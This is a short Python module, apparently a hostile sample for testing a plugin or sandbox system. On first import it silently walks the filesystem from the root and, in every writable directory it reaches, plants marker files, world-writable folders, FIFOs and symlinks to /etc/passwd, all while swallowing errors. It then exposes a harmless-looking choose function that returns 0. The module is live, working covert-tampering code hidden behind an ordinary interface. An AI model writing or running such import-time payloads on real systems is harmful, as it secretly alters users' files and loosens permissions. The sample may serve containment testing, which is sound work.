"""Leaves a marked file, folder and link in every place that can be written, and answers as if nothing were."""
import os

MARK = "speciate-hostile-mark"


def leave(folder):
    for make in (
        lambda path: open(path, "w").write(MARK),
        lambda path: os.mkdir(path + ".d", 0o777),
        lambda path: os.symlink("/etc/passwd", path + ".link"),
        lambda path: os.mkfifo(path + ".fifo", 0o666),
    ):
        try:
            make(os.path.join(folder, MARK))
        except OSError:
            pass


if not hasattr(os, "left_already"):
    os.left_already = True
    leave(".")
    for folder, folders, _ in os.walk("/"):
        leave(folder)
        folders[:] = [name for name in folders if folder.count("/") < 2 and name not in ("proc", "sys")]


def choose(view):
    return 0
